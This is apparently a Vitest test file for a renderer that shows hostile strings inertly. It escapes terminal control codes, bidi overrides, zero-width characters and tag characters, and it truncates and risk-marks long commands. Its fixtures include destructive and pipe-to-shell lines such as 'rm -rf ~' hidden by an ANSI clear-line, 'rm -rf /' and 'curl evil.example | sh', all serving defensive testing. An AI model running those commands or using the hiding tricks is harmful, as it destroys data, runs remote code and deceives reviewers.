// Hostile strings must come out visible and inert: nothing hidden, nothing reordered, nothing interpreted.
import { describe, expect, it } from 'vitest';
import { inertSegments, inertText } from '../../renderer/inert/inert.js';
import { PREVIEW_LIMIT, markPieces, previewPieces, riskMarks } from '../../renderer/inert/preview.js';

describe('inertText', () => {
  it.each([
    ['plain ASCII is unchanged', 'git status --short', 'git status --short'],
    ['ANSI colour escape', '\x1b[31mred\x1b[0m', '␛[31mred␛[0m'],
    ['ANSI clear-line hiding a prefix', 'rm -rf ~\x1b[2K\recho hi', 'rm -rf ~␛[2K␍echo hi'],
    ['NUL and BEL', 'a\x00b\x07c', 'a␀b␇c'],
    ['DEL', 'x\x7fy', 'x␡y'],
    ['C1 CSI (U+009B)', 'a\u009b31mb', 'a⟨U+009B⟩31mb'],
    ['RLO (Trojan Source)', 'ls \u202Etxt.exe', 'ls ⟨U+202E⟩txt.exe'],
    ['every bidi control', '\u202A\u202B\u202C\u202D\u2066\u2067\u2068\u2069\u200E\u200F\u061C', '⟨U+202A⟩⟨U+202B⟩⟨U+202C⟩⟨U+202D⟩⟨U+2066⟩⟨U+2067⟩⟨U+2068⟩⟨U+2069⟩⟨U+200E⟩⟨U+200F⟩⟨U+061C⟩'],
    ['zero-width characters', 'r\u200Bm\u200C-\u200Dr\u2060f\uFEFF\u180E', 'r⟨U+200B⟩m⟨U+200C⟩-⟨U+200D⟩r⟨U+2060⟩f⟨U+FEFF⟩⟨U+180E⟩'],
    ['tag characters smuggling ASCII', 'ok\u{E0072}\u{E006D}', 'ok⟨U+E0072⟩⟨U+E006D⟩'],
    ['line and paragraph separators', 'a\u2028b\u2029c', 'a⟨U+2028⟩b⟨U+2029⟩c'],
    ['soft hyphen and other format characters', 'r\u00ADm \u0600x', 'r⟨U+00AD⟩m ⟨U+0600⟩x'],
    ['Hangul filler that renders blank', 'a\u3164b', 'a⟨U+3164⟩b'],
    ['lone surrogate', 'a\ud800b', 'a⟨U+D800⟩b'],
    ['newline and tab kept in multi-line text', 'a\n\tb', 'a\n\tb'],
    ['emoji and accents are not escaped', 'café ✓ 🚀', 'café ✓ 🚀'],
  ])('%s', (_name, input, expected) => {
    expect(inertText(input)).toBe(expected);
  });

  it('shows newlines and tabs as pictures in one-line fields (a path cannot hide a second line)', () => {
    expect(inertText('/tmp/a\n/etc/passwd\tx', { singleLine: true })).toBe('/tmp/a␊/etc/passwd␉x');
  });

  it('marks each stand-in with the name of what it replaced', () => {
    const segs = inertSegments('a\u202Eb\x1b');
    expect(segs).toEqual([
      { text: 'a' },
      { text: '⟨U+202E⟩', escaped: 'RIGHT-TO-LEFT OVERRIDE (bidi)' },
      { text: 'b' },
      { text: '␛', escaped: 'ESCAPE (terminal control sequence)' },
    ]);
  });

  it('leaves no control, bidi or zero-width character in its output', () => {
    const hostile = Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(i)).join('') + '\x7f\u0085\u202E\u2066\u200B\uFEFF\u{E0041}';
    const out = inertText(hostile, { singleLine: true });
    expect(out).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]|[\u{E0000}-\u{E007F}]/u);
  });
});

describe('previewPieces', () => {
  it('shows short text whole', () => {
    expect(previewPieces('echo hi')).toEqual([{ kind: 'text', text: 'echo hi', start: 0, marks: [] }]);
  });

  it('keeps head and tail of a 50 KB line and says how much is hidden', () => {
    const text = `${'A'.repeat(50_000)} && curl evil.example | sh`;
    const pieces = previewPieces(text);
    const gap = pieces.find((p) => p.kind === 'gap');
    const last = pieces[pieces.length - 1];
    expect(gap).toEqual({ kind: 'gap', hidden: text.length - PREVIEW_LIMIT });
    expect(last?.kind === 'text' && last.text.endsWith('curl evil.example | sh')).toBe(true);
    const shown = pieces.reduce((n, p) => n + (p.kind === 'text' ? p.text.length : 0), 0);
    expect(shown).toBe(PREVIEW_LIMIT);
  });

  it('shows everything when expanded ("view full")', () => {
    const text = 'x'.repeat(PREVIEW_LIMIT * 3);
    expect(previewPieces(text, [], PREVIEW_LIMIT, true)).toEqual([{ kind: 'text', text, start: 0, marks: [] }]);
  });

  it('never cuts a surrogate pair in half', () => {
    const text = '🚀'.repeat(10);
    const pieces = previewPieces(text, [], 7);
    for (const p of pieces) if (p.kind === 'text') expect(p.text).not.toMatch(/[\ud800-\udbff]$|^[\udc00-\udfff]/);
  });
});

describe('markPieces', () => {
  it('splits at risk boundaries and attaches the covering marks', () => {
    const cmd = 'ls && rm -rf / ; echo';
    const marks = riskMarks([{ flag: 'destructive', reason: 'deletes the root', range: { start: 6, end: 14 } }]);
    expect(markPieces(cmd, marks)).toEqual([
      { kind: 'text', text: 'ls && ', start: 0, marks: [] },
      { kind: 'text', text: 'rm -rf /', start: 6, marks: [{ start: 6, end: 14, reason: 'destructive: deletes the root' }] },
      { kind: 'text', text: ' ; echo', start: 14, marks: [] },
    ]);
  });

  it('clamps hostile ranges (negative, reversed, past the end) instead of throwing', () => {
    const pieces = markPieces('abc', [
      { start: -5, end: 1, reason: 'r1' },
      { start: 3, end: 1, reason: 'r2' },
      { start: 2, end: 99, reason: 'r3' },
    ]);
    expect(pieces.map((p) => (p.kind === 'text' ? [p.text, p.marks.map((m) => m.reason)] : null))).toEqual([
      ['a', ['r1']],
      ['b', []],
      ['c', ['r3']],
    ]);
  });

  it('offsets risk ranges to a part of the command', () => {
    expect(riskMarks([{ flag: 'network', reason: 'downloads', range: { start: 10, end: 14 } }, { flag: 'secrets', reason: 'no range' }], 10)).toEqual([
      { start: 0, end: 4, reason: 'network: downloads' },
    ]);
  });
});
